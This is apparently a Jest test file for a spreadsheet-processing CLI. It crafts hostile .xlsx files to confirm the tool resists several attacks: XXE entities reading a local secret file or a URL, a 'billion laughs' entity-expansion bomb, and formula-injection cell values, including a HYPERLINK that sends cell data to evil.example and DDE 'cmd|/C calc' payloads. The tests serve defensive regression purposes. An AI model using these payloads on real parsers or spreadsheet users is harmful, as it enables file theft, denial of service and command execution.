/**
 * Hand-made hostile files (issue 10: these protections held when measured; these tests keep them): external
 * entities (XXE) reading a local file or a URL, entity expansion ("billion laughs"), formulas smuggled in as
 * values, and the CLI never touching the network whatever it is asked to do. The built CLI, with a preload that
 * turns every network call into a recorded failure (no-network.js).
 */
import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { candidatesWorkbook, even, expertsWorkbook, fillSheet } from '../scoring/helpers';

const ROOT = join(__dirname, '..', '..');
const CLI = join(ROOT, 'dist', 'cli', 'main.js');
const SAMPLE = join(ROOT, 'samples', 'sqc-2025-正确.xlsx');
const dir = mkdtempSync(join(tmpdir(), 'jx-attacks-'));
const NET_LOG = join(dir, 'network.log');
const SECRET = 'TOPSECRET-7f3a9c';

interface Run {
  code: number | null;
  out: string;
  err: string;
  timedOut: boolean;
}

/** The CLI under the network trap, a 512 MB heap and a 30 s limit. */
function run(args: string[], cwd = dir): Promise<Run> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, ['--max-old-space-size=512', '--require', join(__dirname, 'no-network.js'), CLI, ...args], {
      cwd,
      env: { ...process.env, JX_NET_LOG: NET_LOG },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let out = '';
    let err = '';
    let timedOut = false;
    child.stdout.setEncoding('utf8').on('data', (d: string) => (out += d));
    child.stderr.setEncoding('utf8').on('data', (d: string) => (err += d));
    const timer = setTimeout(() => {
      timedOut = true;
      child.kill('SIGKILL');
    }, 30_000);
    child.on('close', (code) => {
      clearTimeout(timer);
      resolve({ code, out, err, timedOut });
    });
  });
}

function expectClearAnswer(r: Run): void {
  expect(r.timedOut).toBe(false);
  expect([0, 1, 2]).toContain(r.code);
  expect(r.err.trimEnd().split('\n').filter(Boolean).length).toBeLessThanOrEqual(1);
  expect(r.err).not.toMatch(/^\s+at |匠选内部错误/m);
}

const networkAttempts = () => (existsSync(NET_LOG) ? readFileSync(NET_LOG, 'utf8') : '');

/** Every text part of an .xlsx, concatenated. */
async function allText(bytes: Buffer): Promise<string> {
  const zip = await JSZip.loadAsync(bytes);
  const parts = await Promise.all(Object.values(zip.files).filter((f) => !f.dir).map((f) => f.async('string')));
  return parts.join('\n');
}

/** A copy of `bytes` with one part rewritten. */
async function withPart(bytes: Buffer, part: string | RegExp, edit: (xml: string) => string): Promise<Buffer> {
  const zip = await JSZip.loadAsync(bytes);
  const name = typeof part === 'string' ? part : Object.keys(zip.files).find((n) => part.test(n))!;
  zip.file(name, edit(await zip.file(name)!.async('string')));
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}

const afterDeclaration = (xml: string, doctype: string) => xml.replace(/^(<\?xml[^>]*\?>)?/, (d) => `${d}${doctype}`);

/** A returned round: three filled score sheets and the key (for consolidate cases). */
async function round(into: string): Promise<void> {
  mkdirSync(join(into, 'returned'), { recursive: true });
  writeFileSync(join(into, 'candidates.xlsx'), await candidatesWorkbook([{ name: '林晓', unit: '甲公司' }, { name: '=HYPERLINK("http://evil.example/?"&A1,"点我")', unit: '乙公司' }]));
  writeFileSync(join(into, 'experts.xlsx'), await expertsWorkbook([['张华', '复旦大学', null], ['李明', '同济大学', null], ['周涛', '交通大学', null]]));
  const r = await run(['scoresheets', '--program', 'sqc-2025', '--candidates', 'candidates.xlsx', '--experts', 'experts.xlsx', '--out', 'sheets'], into);
  expect(r.code).toBe(0);
  // The sheets come back filled; the organiser gives the key (from its own folder) beside them.
  for (const sub of readdirSync(join(into, 'sheets'))) {
    for (const f of readdirSync(join(into, 'sheets', sub))) {
      const bytes = readFileSync(join(into, 'sheets', sub, f));
      const fills = { C001: { criteria: even(80), recommend: '推荐' }, C002: { criteria: even(70), recommend: '推荐' } };
      writeFileSync(join(into, 'returned', f), f.startsWith('评分表-') ? await fillSheet(bytes, fills) : bytes);
    }
  }
}

beforeAll(() => {
  writeFileSync(join(dir, 'secret.txt'), SECRET);
});

afterAll(() => {
  // Whatever the files asked for, no command reached for the network.
  expect(networkAttempts()).toBe('');
});

test('the network trap works (a control: it records a request made on purpose)', async () => {
  const log = join(dir, 'control.log');
  const r = await new Promise<number | null>((resolve) => {
    const c = spawn(process.execPath, ['--require', join(__dirname, 'no-network.js'), '-e', "require('http').get('http://127.0.0.1:9/')"], { env: { ...process.env, JX_NET_LOG: log }, stdio: 'ignore' });
    c.on('close', resolve);
  });
  expect(r).not.toBe(0);
  expect(readFileSync(log, 'utf8')).toContain('node:http.get');
});

test('external entities (a local file, a URL) are never resolved: validate and the annotated copy', async () => {
  const doctype = `<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://${join(dir, 'secret.txt')}"><!ENTITY web SYSTEM "http://127.0.0.1:9/xxe">]>`;
  const bytes = await withPart(readFileSync(SAMPLE), 'xl/worksheets/sheet1.xml', (x) =>
    afterDeclaration(x, doctype).replace('</sheetData>', '<row r="30"><c r="A30" t="inlineStr"><is><t>&xxe;&web;</t></is></c></row></sheetData>'),
  );
  writeFileSync(join(dir, 'xxe.xlsx'), bytes);
  const shared = await withPart(readFileSync(SAMPLE), 'xl/sharedStrings.xml', (x) => afterDeclaration(x, doctype.replace('worksheet', 'sst')).replace('<t>', '<t>&xxe;'));
  writeFileSync(join(dir, 'xxe-shared.xlsx'), shared);
  for (const f of ['xxe.xlsx', 'xxe-shared.xlsx']) {
    const r = await run(['validate', f, '--out', `${f}-标注.xlsx`, '--format', 'json']);
    expectClearAnswer(r);
    expect(r.out + r.err).not.toContain(SECRET);
    if (existsSync(join(dir, `${f}-标注.xlsx`))) expect(await allText(readFileSync(join(dir, `${f}-标注.xlsx`)))).not.toContain(SECRET);
  }
});

test('entity expansion ("billion laughs", 10^9 copies if expanded) answers quickly in bounded memory', async () => {
  const levels = ['<!ENTITY l0 "LOLLOLLOLLOL">'];
  for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`);
  const bytes = await withPart(readFileSync(SAMPLE), 'xl/sharedStrings.xml', (x) => afterDeclaration(x, `<!DOCTYPE sst [${levels.join('')}]>`).replace('<t>', '<t>&l9;'));
  writeFileSync(join(dir, 'laughs.xlsx'), bytes);
  const r = await run(['validate', 'laughs.xlsx', '--out', 'laughs-标注.xlsx']);
  expectClearAnswer(r);
  expect(r.out.length).toBeLessThan(1_000_000);
  expect(r.out).not.toContain('LOLLOLLOLLOLLOLLOL');
});

test('the same entities in a returned score sheet: rejected or read, never expanded, the others still count', async () => {
  const d = join(dir, 'round-xxe');
  await round(d);
  const file = join(d, 'returned', '评分表-张华-书面初评.xlsx');
  const levels = ['<!ENTITY l0 "LOLLOLLOLLOL">'];
  for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`);
  levels.push(`<!ENTITY xxe SYSTEM "file://${join(dir, 'secret.txt')}">`);
  writeFileSync(file, await withPart(readFileSync(file), /^xl\/sharedStrings\.xml$|^xl\/worksheets\/sheet1\.xml$/, (x) => afterDeclaration(x, `<!DOCTYPE x [${levels.join('')}]>`).replace('<t>', '<t>&l9;&xxe;')));
  const r = await run(['consolidate', 'returned', '--program', 'sqc-2025', '--out', 'result.xlsx', '--format', 'json'], d);
  expectClearAnswer(r);
  expect(r.code).not.toBe(2);
  expect(r.out).not.toContain(SECRET);
  expect(r.out).not.toContain('LOLLOLLOLLOLLOLLOL');
  expect(await allText(readFileSync(join(d, 'result.xlsx')))).not.toContain(SECRET);
});

/** Every formula in an .xlsx (the text of each <f> element). */
async function formulas(bytes: Buffer): Promise<string[]> {
  return [...(await allText(bytes)).matchAll(/<f(?:\s[^>]*)?>([^<]*)<\/f>/g)].map((m) => m[1]);
}

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|'/C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|x!A0'];

test('values that look like formulas stay text in the annotated copy and its results sheet', async () => {
  const wb = new ExcelJS.Workbook();
  // The sample with problems: its findings fill the results sheet, with the nominees' names beside them.
  await wb.xlsx.load(readFileSync(join(ROOT, 'samples', 'sqc-2025-有问题.xlsx')) as unknown as ArrayBuffer);
  for (const ws of wb.worksheets) {
    const header = ws.getRow(2).values as unknown[];
    const nameCol = header.findIndex((v) => v === '姓名');
    if (nameCol > 0) HOSTILE.forEach((v, i) => (ws.getCell(3 + i, nameCol).value = v));
  }
  writeFileSync(join(dir, 'formulas.xlsx'), Buffer.from(await wb.xlsx.writeBuffer()));
  const r = await run(['validate', 'formulas.xlsx', '--out', 'formulas-标注.xlsx', '--as-of', '2025-03-01']);
  expectClearAnswer(r);
  const out = readFileSync(join(dir, 'formulas-标注.xlsx'));
  const fs = await formulas(out);
  // The results sheet's own links are its only formulas: HYPERLINK to a cell of this workbook ("#…").
  expect(fs.length).toBeGreaterThan(0);
  for (const f of fs) expect(f).toMatch(/^HYPERLINK\(&quot;#/);
  for (const f of fs) expect(f).not.toMatch(/evil|cmd/);
  const copy = new ExcelJS.Workbook();
  await copy.xlsx.load(out as unknown as ArrayBuffer);
  const results = copy.getWorksheet('校验结果')!;
  const texts: unknown[] = [];
  results.eachRow((row) => row.eachCell((c) => texts.push(c.value)));
  // The hostile names are in the results sheet, as plain text.
  for (const v of HOSTILE) expect(texts).toContain(v);
});

test('a candidate named like a formula stays text in the score sheets and the result workbook', async () => {
  const d = join(dir, 'round-formula');
  await round(d);
  const r = await run(['consolidate', 'returned', '--program', 'sqc-2025', '--out', 'result.xlsx'], d);
  expectClearAnswer(r);
  expect(r.code).toBe(0);
  for (const f of [join(d, 'result.xlsx'), ...readdirSync(join(d, 'sheets')).flatMap((sub) => readdirSync(join(d, 'sheets', sub)).map((f) => join(d, 'sheets', sub, f)))]) {
    const text = await allText(readFileSync(f));
    for (const formula of await formulas(readFileSync(f))) expect(formula).not.toMatch(/evil|HYPERLINK/);
    expect(text).toContain('evil.example'); // the name itself is there, as text
  }
});

test('cultivation and rollover reach for nothing either', async () => {
  const d = join(dir, 'cultivation');
  mkdirSync(d);
  let r = await run(['cultivation', '--trainees', SAMPLE, '--year', '2026', '--out', 'track.xlsx'], d);
  expectClearAnswer(r);
  expect(r.code).toBe(0);
  r = await run(['cultivation', 'rollover', 'track.xlsx', '--year', '2027', '--out', 'track2027.xlsx'], d);
  expectClearAnswer(r);
  expect(r.code).toBe(0);
  r = await run(['programs'], d);
  expect(r.code).toBe(0);
});
